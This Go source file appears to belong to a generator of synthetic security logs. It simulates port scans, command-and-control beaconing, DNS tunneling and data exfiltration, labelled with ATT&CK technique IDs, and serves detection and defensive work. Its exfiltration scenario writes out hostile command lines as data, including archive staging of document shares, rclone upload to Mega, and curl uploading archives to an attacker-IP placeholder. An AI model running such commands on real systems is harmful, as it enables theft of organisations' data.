package gen

import (
	"strconv"
	"time"
)

// Scenarios seen mostly on the network: scans, command and control,
// tunnels and exfiltration.

// commonPorts are the ports scanners try first.
var commonPorts = []int{21, 22, 23, 25, 53, 80, 81, 88, 110, 111, 135, 139, 143, 161, 389, 443, 445, 465, 514, 587,
	593, 631, 636, 873, 993, 995, 1080, 1433, 1521, 1723, 2049, 2375, 3000, 3128, 3268, 3306, 3389, 4444, 5000, 5060,
	5432, 5601, 5900, 5985, 5986, 6379, 6443, 7001, 8000, 8008, 8080, 8081, 8088, 8443, 8888, 9000, 9090, 9200, 9300,
	10000, 11211, 27017}

func buildPortScan(b *builder) {
	r, w := b.r, b.w
	internal := r.chance(0.5)
	var target *machine
	var src string
	var scanner *machine
	if internal {
		scanner = w.pickWS(r)
		src = scanner.IP
		if r.chance(0.5) {
			target = w.pickWinServer(r)
		} else {
			target = w.pickLinux(r)
		}
	} else {
		src = b.attackerIP()
		target = pick(r, []*machine{w.web, w.exch, w.nginx[0], w.nginx[1], w.bastionHost})
	}
	open := map[int]bool{}
	switch {
	case target.OS == linux:
		open[22] = true
		if target.Role == webServer {
			open[80], open[443] = true, true
		}
	default:
		for _, p := range []int{135, 139, 445, 3389, 5985} {
			open[p] = true
		}
		if target.Role == webServer || target.Role == mailServer {
			open[80], open[443] = true, true
		}
	}
	reachable := map[int]bool{80: true, 443: true} // through the perimeter firewall
	if target == w.bastionHost {
		reachable = map[int]bool{22: true}
	}

	n := r.between(50, 500)
	ports := make([]int, 0, n)
	seen := map[int]bool{}
	for _, i := range r.Perm(len(commonPorts)) {
		if len(ports) == n {
			break
		}
		ports = append(ports, commonPorts[i])
		seen[commonPorts[i]] = true
	}
	for len(ports) < n {
		p := r.between(1, 65535)
		if r.chance(0.6) {
			p = r.between(1, 10000)
		}
		if !seen[p] {
			seen[p] = true
			ports = append(ports, p)
		}
	}
	span := r.ms(5*time.Second, 60*time.Second)
	sport := r.port()
	fixed := r.chance(0.5)
	tg := b.tags("T1046")
	for i, port := range ports {
		b.t = b.start + span*int64(i)/int64(n)
		if !fixed {
			sport++
			if sport > 65535 {
				sport = 49152
			}
		}
		if internal {
			state, sb, db := "S0", int64(0), int64(0)
			switch {
			case open[port]:
				state, sb, db = "RSTO", 44, 44
			case target.OS == windows:
				state = "REJ"
			}
			b.add(tg).zeekConn(scanner, src, sport, target.IP, port, "tcp", state, sb, db)
			continue
		}
		if open[port] && reachable[port] {
			b.add(tg).firewall(target, "", true, src, sport, target.IP, port, "tcp", int64(r.between(40, 120)), int64(r.between(0, 60)))
		} else {
			b.add(tg).firewall(target, "", false, src, sport, target.IP, port, "tcp", 0, 0)
		}
	}
}

func buildBeaconing(b *builder) {
	r, w := b.r, b.w
	h := w.pickWS(r)
	u := h.User
	var implant proc
	if r.chance(0.5) {
		implant = proc{PID: r.winPID(), Exe: pathRundll32,
			Cmd: `"C:\Windows\System32\rundll32.exe" ` + userDir(u, `\AppData\Local\Temp\`+r.letters("abcdefghijklmnopqrstuvwxyz0123456789", r.between(5, 9))+".dll") + "," +
				pick(r, []string{"StartW", "DllRegisterServer", "Control_RunDLL", "#1", "Run"})}
		b.add(b.tags("T1218.011")).winProcess(h, u.Name, w.domain, implant, explorerProc(h), "Medium")
	} else {
		exe := userDir(u, `\AppData\Roaming\`+pick(r, []string{"Microsoft", "Adobe", "Intel", "Zoom", "Slack"})+`\`+
			pick(r, []string{"OneDriveUpdate.exe", "msedgeupdate.exe", "teams_helper.exe", "SkypeHost.exe", "AdobeARMHelper.exe", "igfxtray.exe"}))
		implant = proc{PID: r.winPID(), Exe: exe, Cmd: `"` + exe + `"`, Orig: r.letters("abcdefghijklmnopqrstuvwxyz", 6) + ".exe"}
		b.add(b.none()).winProcess(h, u.Name, w.domain, implant, explorerProc(h), "Medium")
	}
	host, reg := b.evilHost()
	ip := b.attackerIP()
	port := 443
	if r.chance(0.2) {
		port = 8080
	}
	b.wait(1*time.Second, 10*time.Second)
	b.add(b.none()).dns(h, u.Name, w.domain, implant, b.g.resolver(h), host, "A", reg, ip)
	interval := r.ms(30*time.Second, 120*time.Second)
	jitter := 0.05 + 0.15*r.Float64()
	sb0, db0 := int64(r.between(180, 900)), int64(r.between(120, 1500))
	c2 := b.tags("T1071.001")
	b.wait(100*time.Millisecond, 2*time.Second)
	for i, n := 0, r.between(15, 60); i < n; i++ {
		if i > 0 {
			b.t += r.jitter(interval, jitter)
		}
		sport := r.port()
		b.add(c2).sysmonConn(h, u.Name, w.domain, implant, h.IP, sport, ip, port, "tcp")
		at := b.t
		b.t += r.ms(50*time.Millisecond, 400*time.Millisecond)
		sb, db := r.jitter(sb0, 0.03), r.jitter(db0, 0.03)
		if r.chance(0.05) {
			db += int64(r.between(2_000, 50_000))
		}
		b.add(c2).firewall(h, u.Name, true, h.IP, sport, ip, port, "tcp", sb, db)
		b.t = at
	}
}

func buildDNSTunneling(b *builder) {
	r, w := b.r, b.w
	var h *machine
	if r.chance(0.8) {
		h = w.pickWS(r)
	} else {
		h = w.pickWinServer(r)
	}
	user := hostUser(h)
	if user == "" {
		user = pick(r, w.admins).Name
	}
	reg := r.letters("abcdefghijklmnopqrstuvwxyz", r.between(5, 9)) + strconv.Itoa(r.between(1, 99)) + pick(r, []string{".com", ".net", ".xyz", ".info", ".top"})
	var tool proc
	if r.chance(0.5) {
		exe := pick(r, []string{`C:\ProgramData\dnscat2.exe`, userDir(&person{Name: user}, `\AppData\Local\Temp\dns.exe`), `C:\Users\Public\iodine.exe`})
		tool = proc{PID: r.winPID(), Exe: exe, Cmd: baseName(exe) + " --dns domain=" + reg + " --secret " + r.hex(32)}
		b.add(b.none()).winProcess(h, user, w.domain, tool, proc{PID: r.winPID(), Exe: pathCmd, Cmd: cmdLineCmd}, "Medium")
		b.wait(1*time.Second, 5*time.Second)
	}
	alphabet := base32
	if r.chance(0.4) {
		alphabet = lowerHex
	}
	qtype := "TXT"
	if r.chance(0.35) {
		qtype = "A"
	}
	n := r.between(40, 300)
	span := r.ms(2*time.Minute, 10*time.Minute) - 10_000
	start := b.t
	tg := b.tags("T1071.004", "T1048")
	resolver := b.g.resolver(h)
	for i := 0; i < n; i++ {
		b.t = start + span*int64(i)/int64(n)
		label := r.letters(alphabet, r.between(30, 60))
		if r.chance(0.3) {
			label += "." + r.letters(alphabet, r.between(10, 40))
		}
		qt := qtype
		if r.chance(0.08) {
			qt = pick(r, []string{"A", "TXT", "AAAA"})
		}
		b.add(tg).dns(h, user, w.domain, tool, resolver, label+"."+reg, qt, reg, "")
	}
}

func buildExfiltration(b *builder) {
	r, w := b.r, b.w
	var h *machine
	var u *person
	if r.chance(0.3) {
		h, u = w.fs, pick(r, w.admins)
	} else {
		h = w.pickWS(r)
		u = h.User
	}
	shell := proc{PID: r.winPID(), Exe: pathCmd, Cmd: cmdLineCmd}
	pw := r.letters("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!@#", r.between(8, 14))
	src := userDir(u, `\Documents\*`)
	if h == w.fs {
		src = `D:\Shares\` + pick(r, []string{"Finance", "HR", "Legal", "Projects"}) + `\*`
	}
	var archive string
	var tool proc
	if r.chance(0.6) {
		archive = pick(r, []string{`C:\Users\Public\data.7z`, `C:\ProgramData\` + r.hex(6) + `.7z`, `C:\Windows\Temp\backup.7z`})
		tool.Exe = pick(r, []string{`C:\Program Files\7-Zip\7z.exe`, `C:\Users\Public\7za.exe`})
		tool.Cmd = `"` + tool.Exe + `" a -t7z -mx9 -p` + pw + ` -mhe=on ` + archive + ` "` + src + `"`
	} else {
		archive = pick(r, []string{`C:\ProgramData\backup.rar`, `C:\Users\Public\docs.rar`})
		tool.Exe = pick(r, []string{`C:\Program Files\WinRAR\Rar.exe`, `C:\ProgramData\rar.exe`})
		tool.Cmd = `rar.exe a -hp` + pw + ` -r -m5 -v500m ` + archive + ` "` + src + `"`
	}
	tool.PID = r.winPID()
	stage := b.tags("T1560.001")
	b.add(stage).winProcess(h, u.Name, w.domain, tool, shell, "High")
	b.wait(30*time.Second, 10*time.Minute)
	b.add(stage).file(h, u.Name, w.domain, tool, "file-created", archive)
	b.wait(30*time.Second, 15*time.Minute)

	size := int64(r.between(50, 900)) << 20
	bandwidth := int64(r.between(5, 40)) << 20 // bytes per second
	var up proc
	var tg *tags
	var host, reg, ip string
	port := 443
	if r.chance(0.5) {
		up.Exe = pick(r, []string{`C:\Users\Public\rclone.exe`, `C:\ProgramData\rclone\rclone.exe`, userDir(u, `\Downloads\rclone-v1.68.2-windows-amd64\rclone.exe`)})
		up.Cmd = baseName(up.Exe) + ` copy ` + archive + ` mega:/backup --config C:\Users\Public\rclone.conf -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12`
		host, reg, ip = "g.api.mega.co.nz", "mega.co.nz", "31.216.147."+strconv.Itoa(r.between(1, 254))
		tg = b.tags("T1567.002")
	} else {
		up.Exe = `C:\Windows\System32\curl.exe`
		ip = b.attackerIP()
		port = pick(r, []int{80, 8080, 8000})
		dst := "http://" + ip + ":" + strconv.Itoa(port) + "/upload/"
		if port == 80 {
			dst = "http://" + ip + "/upload/"
		}
		if r.chance(0.5) {
			up.Cmd = `curl.exe -T ` + archive + " " + dst
		} else {
			up.Cmd = `curl.exe --upload-file ` + archive + " " + dst + baseName(archive)
		}
		tg = b.tags("T1048.003")
	}
	up.PID = r.winPID()
	b.add(tg).winProcess(h, u.Name, w.domain, up, shell, "High")
	b.wait(200*time.Millisecond, 2*time.Second)
	if reg != "" {
		b.add(b.none()).dns(h, u.Name, w.domain, up, b.g.resolver(h), host, "A", reg, ip)
		b.wait(10*time.Millisecond, 200*time.Millisecond)
	}
	sport := r.port()
	b.add(tg).sysmonConn(h, u.Name, w.domain, up, h.IP, sport, ip, port, "tcp")
	b.t += size / bandwidth * 1000
	b.add(tg).firewall(h, u.Name, true, h.IP, sport, ip, port, "tcp", size, int64(r.between(200_000, 5_000_000)))
}
